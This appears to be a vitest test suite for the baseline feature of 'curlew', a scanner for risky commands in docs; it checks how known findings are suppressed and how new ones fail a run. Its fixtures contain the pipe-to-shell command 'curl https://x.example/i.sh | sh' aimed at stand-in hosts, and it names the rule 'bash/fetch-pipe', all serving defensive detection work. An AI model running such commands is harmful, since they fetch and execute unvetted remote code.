import { readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { folderWith } from "../folder-with.js";
import { runHere } from "../fake-detector.js";

const BAD = "curl https://x.example/i.sh | sh";
const OTHER = "curl https://y.example/i.sh | sh";
const BASE = ["--baseline", "base.json"];

describe("a baseline", () => {
  it("suppresses all findings of a repository, and a new one fails the run", async () => {
    const files = Object.fromEntries(
      Array.from({ length: 33 }, (_, i) => [`docs/${i}.md`, `${BAD}\n\n${BAD}\n\n${OTHER}\n`]),
    );
    const cwd = folderWith(files);
    expect((await runHere(["scan", "."], { cwd })).stdout).toContain(
      "99 findings in 33 of 33 texts",
    );
    const update = await runHere(["scan", ".", ...BASE, "--update-baseline"], { cwd });
    expect(update).toMatchObject({
      status: 0,
      stderr: "curlew: base.json now contains 99 findings\n",
    });
    expect(update.stdout).toBe(
      "no findings in 33 texts (99 findings suppressed by the baseline)\n",
    );
    expect((await runHere(["scan", ".", ...BASE], { cwd })).status).toBe(0);
    // a second occurrence of the command is a new finding
    writeFileSync(join(cwd, "docs/7.md"), `${files["docs/7.md"] ?? ""}\n${BAD}\n`);
    const { stdout, status } = await runHere(["scan", ".", ...BASE], { cwd });
    expect(stdout).toContain("docs/7.md:7:1: bash/fetch-pipe");
    expect(stdout).toContain("1 finding in 1 of 34 texts (99 findings suppressed by the baseline)");
    expect(status).toBe(1);
  });

  it("recognizes a finding whose line was moved or wrapped differently, in a scan from any folder", async () => {
    const cwd = folderWith({ "a/x.md": `${BAD}\n` });
    await runHere(["scan", ".", ...BASE, "--update-baseline"], { cwd });
    writeFileSync(
      join(cwd, "a/x.md"),
      `# Title\n\nmore words\n\n    curl https://x.example/i.sh \\\n      | sh\n`,
    );
    expect(await runHere(["scan", ".", ...BASE], { cwd })).toMatchObject({ status: 0 });
    expect(
      await runHere(["scan", "x.md", "--baseline", "../base.json"], { cwd: join(cwd, "a") }),
    ).toMatchObject({ status: 0 });
  });

  it("does not suppress a finding with another URL, rule or file", async () => {
    const cwd = folderWith({ "x.md": `${BAD}\n` });
    await runHere(["scan", ".", ...BASE, "--update-baseline"], { cwd });
    writeFileSync(join(cwd, "x.md"), OTHER);
    expect(await runHere(["scan", "x.md", ...BASE], { cwd })).toMatchObject({
      status: 1,
      stdout: expect.stringContaining("1 entry of the baseline no longer needed"),
    });
    writeFileSync(join(cwd, "y.md"), BAD);
    expect(await runHere(["scan", "y.md", ...BASE], { cwd })).toMatchObject({ status: 1 });
  });

  it("keeps entries of files that were not scanned, and drops removed files and commented findings", async () => {
    const cwd = folderWith({ "x.md": BAD, "y.md": BAD, "z.md": BAD });
    await runHere(["scan", ".", ...BASE, "--update-baseline"], { cwd });
    rmSync(join(cwd, "z.md"));
    writeFileSync(join(cwd, "x.md"), `<!-- curlew-ignore bash/fetch-pipe: ours -->\n${BAD}`);
    await runHere(["scan", "x.md", ...BASE, "--update-baseline"], { cwd });
    expect(Object.keys(JSON.parse(readFileSync(join(cwd, "base.json"), "utf8")).findings)).toEqual([
      "y.md",
    ]);
  });

  it("contains no command, so that a scan of it finds nothing", async () => {
    const cwd = folderWith({ "x.md": BAD });
    await runHere(["scan", ".", ...BASE, "--update-baseline"], { cwd });
    expect(readFileSync(join(cwd, "base.json"), "utf8")).not.toContain("curl");
  });

  it("is ignored with --no-suppressions", async () => {
    const cwd = folderWith({ "x.md": BAD });
    await runHere(["scan", ".", ...BASE, "--update-baseline"], { cwd });
    expect((await runHere(["scan", ".", ...BASE, "--no-suppressions"], { cwd })).status).toBe(1);
  });

  it.each([
    [["--baseline", "no.json"], "no.json: no such file or folder; --update-baseline creates it"],
    [["--baseline", "x.md"], "x.md: is not a curlew baseline"],
    [["--baseline", "old.json"], "old.json: is not a curlew baseline"],
    [["--baseline", "x.md", "--update-baseline"], "x.md: is not a curlew baseline"],
    [["--update-baseline"], "--update-baseline needs --baseline FILE"],
  ])("%j is rejected", async (args, message) => {
    const cwd = folderWith({ "x.md": BAD, "old.json": '{"version": 2, "findings": {}}' });
    expect(await runHere(["scan", "x.md", ...args], { cwd })).toMatchObject({
      status: 2,
      stdout: "",
      stderr: expect.stringContaining(message),
    });
    expect(readFileSync(join(cwd, "x.md"), "utf8")).toBe(BAD);
  });
});
